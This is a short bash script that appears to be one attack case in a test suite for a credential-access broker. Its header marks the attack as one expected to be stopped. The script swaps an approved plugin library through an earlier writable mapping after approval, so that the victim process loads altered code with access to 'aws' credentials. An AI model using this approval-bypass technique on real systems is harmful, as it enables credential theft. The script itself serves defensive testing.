#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
#
# attack: changes an approved library through a mapping made before
# expects: untrusted_process
# control: code_written
# kind: stopped
# cost: -
#
# Nothing forbids to write to a library that is in use, and a page that was written to once can
# be again, for some seconds, without a trace in the times.
set -eu
library=$HOME/plugin.so
cp "$ATTACK_DIR/libplugin.so" "$library"
keychain-auth register "$ATTACK_VICTIM" --read aws --library "$library" >&2
coproc "$ATTACK_DIR/mapper" "$library" kept
read -r _ <&"${COPROC[0]}"
sleep 2.1
"$ATTACK_VICTIM" "load $library" connect use </dev/null >&2
echo go >&"${COPROC[1]}"
read -r _ <&"${COPROC[0]}"
exec "$ATTACK_VICTIM" "load $library" connect print </dev/null
